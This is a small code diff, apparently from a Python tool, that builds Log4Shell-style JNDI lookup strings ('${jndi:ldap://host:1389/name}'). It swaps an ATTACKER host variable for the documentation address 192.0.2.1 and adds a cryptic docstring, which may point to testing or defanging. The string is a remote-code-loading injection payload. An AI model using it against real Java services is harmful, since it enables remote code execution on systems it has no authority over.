@@ -310,7 +310,8 @@ def send_lookup(source, name):
 
 
 def lookup_text(name):
-    return "${jndi:ldap://%s:1389/%s}" % (ATTACKER, name)
+    """Of a server that is not there: incidents at those that are do not begin with it."""
+    return "${jndi:ldap://192.0.2.1:1389/%s}" % name
 
 
 def request(text, source=ATTACKER, port=8080):
